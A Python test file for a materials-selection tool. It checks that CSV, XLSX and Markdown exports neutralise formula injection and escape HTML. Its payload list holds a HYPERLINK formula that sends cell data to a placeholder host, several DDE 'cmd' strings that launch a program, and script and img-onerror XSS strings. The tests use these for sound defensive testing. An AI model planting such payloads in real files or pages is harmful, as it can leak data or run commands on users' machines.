"""Exports are safe to open: no live formula in CSV or XLSX, no raw HTML in Markdown.

The payloads follow the usual published guidance on CSV (formula) injection (from
memory): text beginning with =, +, -, @, a tab or a carriage return is run as a
formula by spreadsheet programs, and is neutralised by a leading apostrophe.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from selector.api import run_spec
from selector.outputs import export, tables
from selector.outputs.cells import FORMULA_START, neutral

EXAMPLES = Path(__file__).parents[2] / "examples"
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NAME_PAYLOADS = PAYLOADS[:4]  # names are stripped of surrounding white space when read
HTML_TITLE = '<img src=x onerror="alert(1)"> & <b>bold</b>'


def _materials(tmp_path: Path, names: list[str]) -> Path:
    """A user CSV of invented classes whose names carry the payloads (stiff, light: they rank)."""
    rows = ["id,name,family,rho [kg/m^3],E [GPa],sigma_y [MPa],price [USD/kg],co2,T_max [degC],T_min [degC]"]
    for i, name in enumerate(names):
        quoted = '"' + name.replace('"', '""') + '"'
        rows.append(f"payload-{i},{quoted},composite,{1500 + i},{120 + i},900,30,20,120,-40")
    path = tmp_path / "payloads.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def payload_run(tmp_path):
    """The camera-dolly spec with a formula for its title, ranked with the payload classes."""
    text = (EXAMPLES / "camera-dolly-boom.toml").read_text(encoding="utf-8")
    title = f"title = {json.dumps(PAYLOADS[0])}"  # a JSON string is a valid TOML basic string here
    notes = f"notes = {json.dumps(PAYLOADS[4])}"
    lines = [line for line in text.splitlines() if not line.startswith(("title", "notes"))]
    lines = [title, notes, *lines]
    lines = [line for line in lines if not line.startswith("families")]
    spec = tmp_path / "spec.toml"
    spec.write_text("\n".join(lines) + "\n", encoding="utf-8")
    selection = run_spec(spec, [str(_materials(tmp_path, NAME_PAYLOADS))])
    assert selection.spec.title == PAYLOADS[0]
    assert set(selection.shortlist["name"]) >= set(NAME_PAYLOADS)
    return selection


def test_neutral_marks_formulas_and_keeps_numbers() -> None:
    for payload in PAYLOADS:
        assert neutral(payload) == "'" + payload
    assert neutral("-40") == "-40"  # a plain number is no formula (common practice, no source)
    assert neutral(-40.0) == -40.0
    assert neutral("Aluminium alloy, wrought") == "Aluminium alloy, wrought"


def test_csv_export_has_no_formula_cell(payload_run, tmp_path) -> None:
    path = export.write_selection(payload_run, tmp_path / "out.csv")
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    names = [r["name"] for r in rows]
    for payload in NAME_PAYLOADS:
        assert "'" + payload in names
    for row in rows:
        for value in row.values():
            if value and value.startswith(FORMULA_START):
                float(value)  # only a real number may start with a sign
    assert any(float(r["rank"]) >= 1 for r in rows)


def test_xlsx_export_has_no_formula_and_keeps_negative_numbers(payload_run, tmp_path) -> None:
    from openpyxl import load_workbook

    path = export.write_xlsx(payload_run, tmp_path / "out.xlsx")
    book = load_workbook(path)
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), cell.value
                    seen.append(cell.value)
    assert "'" + PAYLOADS[0] in seen  # the title in the spec sheet and the class name
    assert all("'" + p in seen for p in [*NAME_PAYLOADS, PAYLOADS[4]])  # names, title, notes with a tab
    ranks = [c.value for c in next(book["shortlist"].iter_cols(min_row=2, max_col=1))]
    assert ranks[:3] == [1, 2, 3]  # numbers are still numbers
    spec_sheet = book["spec"]
    titles = [r[2].value for r in spec_sheet.iter_rows(min_row=2) if r[1].value == "title"]
    assert titles == ["'" + PAYLOADS[0]]


def test_markdown_escapes_html(payload_run, tmp_path) -> None:
    from dataclasses import replace

    selection = replace(payload_run, spec=payload_run.spec.model_copy(update={"title": HTML_TITLE}))
    text = tables.render_selection(selection, "md", "si")
    assert "<img" not in text and "<b>" not in text
    assert "&lt;img src=x" in text and "&amp;" in text


def test_markdown_escapes_html_in_class_names(tmp_path) -> None:
    path = _materials(tmp_path, ["<script>alert(1)</script>"])
    selection = run_spec(EXAMPLES / "camera-dolly-boom.toml", [str(path)])
    out = export.write_selection(selection, tmp_path / "out.md", show_all=True)
    text = out.read_text(encoding="utf-8")
    assert "<script>" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


def test_materials_csv_keeps_negative_numbers_and_neutralises_names(tmp_path) -> None:
    from click.testing import CliRunner

    from selector.cli import cli

    path = _materials(tmp_path, NAME_PAYLOADS)
    result = CliRunner().invoke(
        cli, ["materials", "list", "--materials", str(path), "--no-builtin", "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert sorted(r["name"] for r in rows) == sorted("'" + p for p in NAME_PAYLOADS)
    t_min = [v for r in rows for k, v in r.items() if k.startswith("T_min")]
    assert t_min and all(float(v) == -40 for v in t_min)  # the file gives T_min = -40 degC
